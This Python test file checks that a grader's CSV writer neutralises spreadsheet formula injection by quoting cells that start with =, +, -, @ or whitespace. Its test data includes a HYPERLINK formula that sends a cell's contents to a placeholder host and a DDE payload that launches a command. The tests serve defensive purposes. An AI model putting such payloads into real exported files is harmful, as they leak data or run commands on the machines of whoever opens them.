"""Every CSV grader writes opens in a spreadsheet as data: text that a spreadsheet would run as a formula is
quoted as text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from grader.io.csvfile import cell, csv_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x.invalid/?"&A1,"click")', '\'=HYPERLINK("http://x.invalid/?"&A1,"click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("  =1+1", "'  =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Saidava Nathi", "Saidava Nathi"),
        ("223737856", "223737856"),
        ("a=b", "a=b"),
        (2.5, "2.5"),
        (-1.0, "-1"),
        (None, ""),
    ],
    ids=["hyperlink", "dde", "plus", "minus", "after-spaces", "after-tab", "after-cr", "name", "id", "inner-equals",
         "score", "negative-score", "empty"],
)  # fmt: skip
def test_a_cell_is_data(value: str | float | None, written: str) -> None:
    assert cell(value) == written


def test_csv_text_quotes_where_needed_and_reads_back() -> None:
    text = csv_text([["id", "name", "total"], ["=1", 'a, "b"', 3.0]], line_end="\r\n")

    assert list(csv.reader(io.StringIO(text))) == [["id", "name", "total"], ["'=1", 'a, "b"', "3"]]
    assert text.endswith("\r\n")
